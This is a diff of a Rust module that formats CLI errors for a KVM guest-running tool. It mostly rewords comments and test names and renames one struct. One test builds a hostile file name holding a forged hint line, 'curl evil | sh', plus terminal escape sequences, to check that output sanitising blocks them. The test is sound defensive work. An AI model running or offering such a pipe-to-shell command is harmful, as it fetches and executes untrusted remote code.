@@ -1,4 +1,4 @@
-//! The form of every error: what happened, to which thing, what to type next.
+//! How every error is printed: what happened, to which object, what to do next.
 
 use std::fmt::Write as _;
 use std::io::ErrorKind;
@@ -14,18 +14,18 @@ use crate::doctor::{self, HostReport, Verdict};
 use crate::service::{Blame, Place, Position, ServiceError};
 use crate::shell::quoted;
 
-/// A class of error: its number is stable, scripts and people look it up.
+/// A class of error. Its number is stable: scripts and people look it up.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub enum Code {
-    /// Something else went wrong.
+    /// No other class fits.
     Unclassified,
-    /// The command line makes no sense.
+    /// The command line or an environment variable is not valid.
     Usage,
     /// Definition, configuration or package refused.
     Service,
     /// Definition, configuration or package cannot be read.
     ServiceFile,
-    /// A file of the answer (report, package) cannot be written.
+    /// A report, a package or standard output cannot be written.
     Output,
     /// There is no `/dev/kvm`.
     NoKvm,
@@ -35,9 +35,9 @@ pub enum Code {
     KvmUnusable,
     /// Not enough memory or disk.
     HostFull,
-    /// The guest image is not there.
+    /// The guest image does not exist.
     ImageMissing,
-    /// The guest image is not what its manifest says.
+    /// The guest image does not match its manifest.
     ImageDamaged,
     /// A public port is in use.
     PortInUse,
@@ -47,7 +47,7 @@ pub enum Code {
     Boot,
     /// A time limit passed.
     Timeout,
-    /// A role failed or keeps ending.
+    /// A role failed or keeps exiting.
     Role,
     /// A probe failed.
     Probe,
@@ -55,7 +55,7 @@ pub enum Code {
     Unclean,
     /// No running instance has that name.
     NoInstance,
-    /// Several have it.
+    /// Several running instances have that name.
     Ambiguous,
     /// The host agent or an agent in the guest does not answer.
     Unreachable,
@@ -100,7 +100,7 @@ impl Code {
         Self::Interrupted,
     ];
 
-    /// The number, and the exit code unless the error says otherwise.
+    /// The number, and the exit code unless the error has its own.
     const fn row(self) -> (u16, Exit) {
         match self {
             Self::Unclassified => (1, Exit::Unclassified),
@@ -137,12 +137,12 @@ impl Code {
     }
 }
 
-/// An error as it is printed.
+/// An error as it is printed. Boxed, so that a `Result` stays small.
 #[derive(Debug)]
-pub struct CliError(Box<Inner>);
+pub struct CliError(Box<Details>);
 
 #[derive(Debug)]
-struct Inner {
+struct Details {
     code: Code,
     exit: Exit,
     what: String,
@@ -157,7 +157,7 @@ struct Inner {
 impl CliError {
     /// `what` happened.
     pub fn new(code: Code, what: impl Into<String>) -> Self {
-        Self(Box::new(Inner {
+        Self(Box::new(Details {
             code,
             exit: code.row().1,
             what: what.into(),
@@ -170,42 +170,42 @@ impl CliError {
         }))
     }
 
-    /// What happened and the chain of its causes are those of `error`.
+    /// An error with the message and the sources of `error`.
     pub fn chain(code: Code, error: &dyn std::error::Error) -> Self {
         let mut this = Self::new(code, error.to_string());
         this.0.causes = sources(error);
         this
     }
 
-    /// Ends with `exit` and not with the code's own.
+    /// Replaces the exit code of the class.
     #[must_use]
     pub fn exit_with(mut self, exit: Exit) -> Self {
         self.0.exit = exit;
         self
     }
 
-    /// Adds a cause below those already there.
+    /// Appends a cause.
     #[must_use]
     pub fn cause(mut self, cause: impl Into<String>) -> Self {
         self.0.causes.push(cause.into());
         self
     }
 
-    /// The exact command, or change, that helps.
+    /// The exact command, or change, that helps the user.
     #[must_use]
     pub fn hint(mut self, hint: impl Into<String>) -> Self {
         self.0.hint = Some(hint.into());
         self
     }
 
-    /// What is at fault stands at `place`.
+    /// Names the file and the line of the fault.
     #[must_use]
     pub fn at(mut self, place: &Place) -> Self {
         self.0.place = Some((place.file.display().to_string(), Some(place.position)));
         self
     }
 
-    /// Where to read more: a command or a path.
+    /// Where the user can read more: a command or a path.
     #[must_use]
     pub fn logs(mut self, logs: impl Into<String>) -> Self {
         self.0.logs.push(logs.into());
@@ -221,7 +221,7 @@ impl CliError {
         self
     }
 
-    /// Why `service` cannot run on the host of `report`.
+    /// Why the machine of `report` cannot run `service`.
     pub fn host(report: &HostReport, service: &Path) -> Self {
         let (code, what) = match report.verdict {
             Verdict::NoDevice => (Code::NoKvm, "this host cannot run guests: no /dev/kvm"),
@@ -242,12 +242,12 @@ impl CliError {
         error.logs("host-agent doctor")
     }
 
-    /// How the command ends.
+    /// The exit code of the command.
     pub fn exit(&self) -> Exit {
         self.0.exit
     }
 
-    /// `HA-nnnn`.
+    /// The class.
     pub fn code(&self) -> Code {
         self.0.code
     }
@@ -257,13 +257,13 @@ impl CliError {
         &self.0.what
     }
 
-    /// What to type next.
+    /// The hint, if there is one.
     pub fn hint_text(&self) -> Option<&str> {
         self.0.hint.as_deref()
     }
 
-    /// For people, without a newline at the end. Nothing that others wrote
-    /// reaches the terminal as a control sequence or as a line of its own.
+    /// As text, without a newline at the end. Text from files and guests cannot
+    /// send control sequences to the terminal or forge a line.
     pub fn human(&self, color: bool) -> String {
         let (red, dim, off) = if color {
             ("\u{1b}[1;31m", "\u{1b}[2m", "\u{1b}[0m")
@@ -283,7 +283,7 @@ impl CliError {
             let snippet = printable_code(snippet);
             let number = place.line.to_string();
             let _ = write!(text, "\n  {dim}{number} |{off} {snippet}");
-            // A long line is quoted in part: then the mark is left out.
+            // The snippet of a long line may end before the column.
             if place.column <= snippet.chars().count() {
                 let pad: String = snippet
                     .chars()
@@ -315,7 +315,7 @@ impl CliError {
         text
     }
 
-    /// For machines.
+    /// Schema `host-agent.error/1`.
     pub fn json(&self) -> Value {
         let mut value = json!({
             "schema": "host-agent.error/1",
@@ -348,7 +348,7 @@ fn line(text: &mut String, name: &str, value: &str) {
     let _ = write!(text, "\n  {name:<6} {value}");
 }
 
-/// The chain below `error`, outermost first.
+/// The sources of `error`, outermost first.
 pub fn sources(error: &dyn std::error::Error) -> Vec<String> {
     std::iter::successors(error.source(), |error| error.source())
         .map(ToString::to_string)
@@ -368,12 +368,12 @@ impl From<ServiceError> for CliError {
             (Blame::Service, Some(_)) => Code::ServiceFile,
         };
         let exit = match (code, system) {
-            // Something else is there.
+            // Without an I/O error: another file has that name.
             (Code::Output, None) => Exit::Conflict,
             (Code::ServiceFile | Code::Output, Some(kind)) => match kind {
                 ErrorKind::NotFound | ErrorKind::NotADirectory => Exit::NotFound,
                 ErrorKind::PermissionDenied | ErrorKind::ReadOnlyFilesystem => Exit::Permission,
-                // The content is bad; deflate says it in its own way.
+                // Bad content; the deflate decoder reports `InvalidInput`.
                 ErrorKind::InvalidData | ErrorKind::UnexpectedEof | ErrorKind::InvalidInput => {
                     Exit::Invalid
                 }
@@ -386,7 +386,7 @@ impl From<ServiceError> for CliError {
         this.0.snippet = error.snippet().map(Into::into);
         this.0.hint = error.hint().map(Into::into);
         if code == Code::HostFull && this.0.hint.is_none() {
-            this.0.hint = Some("make room there, or name a file on another disk".into());
+            this.0.hint = Some("free space there, or name a file on another disk".into());
         }
         this.0.causes = sources(&error);
         this
@@ -417,7 +417,7 @@ impl From<ClientError> for CliError {
         let this = Self::chain(code, &error);
         match error {
             ClientError::NotFound { running, .. } if running.is_empty() => this
-                .cause("nothing runs")
+                .cause("no instance is running")
                 .hint("host-agent run SERVICE   (in another terminal)"),
             ClientError::NotFound { running, .. } => this
                 .cause(format!("running: {}", running.join(", ")))
@@ -439,7 +439,7 @@ mod tests {
     use super::*;
 
     #[test]
-    fn numbers_of_errors_are_unique_and_exits_are_set() {
+    fn error_numbers_are_unique_and_no_exit_code_is_zero() {
         let mut numbers: Vec<u16> = Code::ALL.iter().map(|code| code.row().0).collect();
         numbers.sort_unstable();
         let count = numbers.len();
@@ -449,7 +449,7 @@ mod tests {
     }
 
     #[test]
-    fn the_manual_lists_every_error_with_its_exit_code_in_order() {
+    fn the_manual_lists_every_error_with_its_exit_code() {
         let manual = include_str!("../../../docs/errors.md");
         let listed: Vec<(&str, &str)> = manual
             .lines()
@@ -473,7 +473,7 @@ mod tests {
     }
 
     #[test]
-    fn an_error_in_a_file_shows_the_place_the_line_and_the_remedy() {
+    fn an_error_in_a_file_shows_position_line_and_hint() {
         let text = "<a>\n\t<b c='1'/>\n</a>";
         let offset = text.find("c=").unwrap();
         let error = ServiceError::at(Path::new("s.csdef"), text, offset, "c is not known")
@@ -491,7 +491,7 @@ mod tests {
     }
 
     #[test]
-    fn what_the_system_said_of_a_file_decides_how_the_command_ends() {
+    fn the_errno_of_a_file_decides_the_exit_code() {
         let path = Path::new("x");
         let ends = |error: ServiceError| {
             let error = CliError::from(error);
@@ -520,7 +520,7 @@ mod tests {
     }
 
     #[test]
-    fn a_hostile_file_neither_drives_the_terminal_nor_forges_a_line() {
+    fn a_hostile_file_cannot_drive_the_terminal_or_forge_a_line() {
         let text = "<a>\u{1b}]0;title\u{7}\u{9b}2J</a>";
         let name = Path::new("x\n  hint   curl evil | sh.csdef");
         let error =
@@ -536,12 +536,12 @@ mod tests {
         );
         let hints = shown.lines().filter(|line| line.starts_with("  hint"));
         assert_eq!(hints.count(), 1, "{shown}");
-        // A program gets the truth.
+        // JSON keeps the original text.
         assert_eq!(error.json()["hint"], "a\n  hint   b\u{1b}[8m");
     }
 
     #[test]
-    fn an_error_of_the_host_keeps_its_chain_its_hint_and_its_logs() {
+    fn an_error_prints_causes_tails_hint_and_logs() {
         let source = std::io::Error::from(ErrorKind::NotFound);
         let error = CliError::from(ServiceError::io(Path::new("x"), "cannot open", source));
         assert_eq!(error.exit(), Exit::NotFound);
@@ -559,7 +559,7 @@ mod tests {
     }
 
     #[test]
-    fn an_instance_that_is_not_there_is_answered_with_those_that_are() {
+    fn an_unknown_instance_is_answered_with_the_running_ones() {
         let error = CliError::from(ClientError::NotFound {
             name: "A_IN_0".into(),
             running: vec!["12345678/B_IN_0".into()],
@@ -569,7 +569,7 @@ mod tests {
     }
 
     #[test]
-    fn a_runtime_directory_that_may_not_be_read_is_a_matter_of_permission() {
+    fn an_unreadable_runtime_directory_is_a_permission_error() {
         let error = CliError::from(ClientError::List {
             directory: "/run/x".into(),
             source: ErrorKind::PermissionDenied.into(),
